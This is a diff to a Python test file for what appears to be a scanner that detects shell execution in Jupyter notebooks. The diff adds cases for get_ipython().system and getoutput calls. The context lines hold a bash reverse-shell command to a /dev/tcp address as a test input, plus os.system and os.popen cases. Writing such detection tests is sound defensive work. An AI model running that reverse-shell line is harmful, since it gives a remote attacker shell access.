@@ -58,6 +58,7 @@ def markdown(text: str) -> dict[str, Any]:
         notebook(code("df", shows(html="<div><style scoped>a {}</style><table><tr><td>1</td></tr></table></div>"))),
         notebook(code("library(x)\nsystem('ls')"), language="R"),
         notebook(code("def f(:")),
+        notebook(code("get_ipython().system('pip install -q torch')")),
         json.dumps(
             {
                 "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": [{"html": "<b>x</b>"}]}]}],
@@ -82,6 +83,8 @@ def test_honest_notebooks_are_safe(data: bytes) -> None:
         ("x = !./a.out", "./a.out"),
         ("%%bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1", "bash -i >& /dev/tcp/192.0.2.1/4 0>&1"),
         ("%sx touch x", "touch x"),
+        ("x = get_ipython().getoutput('touch x')", "touch x"),
+        ("get_ipython().system(command)", "command"),
         ("if x:\n    !touch x", "touch x"),
         ("print 'old'\nos.system('x')", "os.system"),
         ("%%capture\nimport os\nos.popen('x')", "os.popen"),
